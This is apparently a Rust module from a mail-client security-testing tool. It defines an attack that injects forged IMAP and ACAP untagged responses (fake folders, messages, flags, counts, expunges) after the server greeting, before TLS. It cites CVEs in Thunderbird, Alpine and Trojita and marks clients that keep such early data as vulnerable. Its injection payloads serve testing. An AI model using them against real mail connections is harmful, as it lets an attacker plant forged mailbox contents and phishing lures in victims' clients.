//! Tells the client of mailboxes and messages before anybody logged in.

use super::{Attack, Deciding, Group, tamper};
use crate::base::{Protocol, Switch, switch};
use crate::harm::success;

switch!(
    Middle DATA,
    "data",
    Setting,
    &["folder", "message", "subscribed", "status", "found", "flags", "counts", "expunged"],
    &[],
    "Forged data",
    "A folder; or, in IMAP, a message, a subscribed folder, its numbers, what a search found, flags, how many messages there are, or that one is gone."
);

static SWITCHES: &[&Switch] = &[&DATA];

/// The same weakness for everything that is forged.
const fn kept(protocols: &'static [Protocol], given: &'static [&'static str]) -> Deciding {
    Deciding { protocols, given, right: &[], wrong: &["client.early-mailbox-data=on"] }
}

const IMAP: &[Protocol] = &[Protocol::Imap];

static DECIDING: &[Deciding] = &[
    kept(&[Protocol::Imap, Protocol::Acap], &[]),
    kept(IMAP, &["middle.data=message"]),
    kept(IMAP, &["middle.data=subscribed"]),
    kept(IMAP, &["middle.data=status"]),
    kept(IMAP, &["middle.data=found"]),
    kept(IMAP, &["middle.data=flags"]),
    kept(IMAP, &["middle.data=counts"]),
    kept(IMAP, &["middle.data=expunged"]),
];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "untagged-data-pre-tls",
    title: "Forge mailbox data",
    about: "Adds data about folders and messages behind the greeting, in the clear, which a careless client keeps for good.",
    group: Group::Injection,
    known: &["CVE-2021-29969 Thunderbird", "CVE-2021-38370 Alpine", "CVE-2021-38372 Trojita"],
    protocols: &[Protocol::Imap, Protocol::Acap],
    switches: SWITCHES,
    build: |switches, dialect| {
        let kind = switches.get(&DATA);
        tamper(move |message, moves| {
            moves.pass();
            if !message.is_greeting() {
                return;
            }
            let data: &[u8] = match kind {
                _ if dialect.protocol == Protocol::Acap => {
                    b"* ADDTO \"ctx\" \"Free gifts\" 1 (\"click here\")\r\n"
                }
                "message" => b"* 1 FETCH (BODY[] {32}\r\nFrom: boss@example.test\r\n\r\nhello)\r\n",
                "subscribed" => b"* LSUB () \"/\" \"Free gifts\"\r\n",
                "status" => b"* STATUS \"Free gifts\" (MESSAGES 7 UNSEEN 7)\r\n",
                "found" => b"* SEARCH 1 2 3\r\n",
                "flags" => b"* FLAGS (\\Seen \\Deleted $Forged)\r\n",
                "counts" => b"* 7 EXISTS\r\n* 7 RECENT\r\n",
                "expunged" => b"* 1 EXPUNGE\r\n",
                _ => b"* LIST () \"/\" \"Free gifts\"\r\n",
            };
            moves.add(data.to_vec());
        })
    },
    success: &success::FORGED_MAILBOX,
    deciding: DECIDING,
};
